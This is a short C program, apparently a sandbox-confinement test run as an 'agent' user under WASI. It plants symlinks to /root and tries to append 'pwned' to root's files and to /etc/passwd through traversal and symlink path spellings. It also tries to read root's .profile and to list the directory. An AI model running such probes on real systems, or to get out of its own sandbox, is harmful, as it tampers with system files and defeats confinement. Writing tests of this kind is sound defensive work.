/* as agent, from a WASI program: spellings of root's directories and links
 * into them */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void)
{
	symlink("/root", "/home/agent/r");
	symlink("../../root", "/home/agent/up");
	const char *p[] = { "/root/x", "//root/x", "/./root/x", "/home/agent/../../root/x", "/home/agent/r/x", "/home/agent/up/x", "/tmp/../root/x", "/etc/passwd" };
	for (int i = 0; i < 8; i++) {
		int fd = open(p[i], O_WRONLY | O_CREAT | O_APPEND, 0644);
		if (fd >= 0 && write(fd, "pwned", 5) == 5) printf("WROTE %s\n", p[i]);
	}
	if (open("/home/agent/r/.profile", O_RDONLY) >= 0) puts("READ-ROOT");
	if (opendir("/home/agent/up")) puts("LISTED");
	puts("done");
	return 0;
}
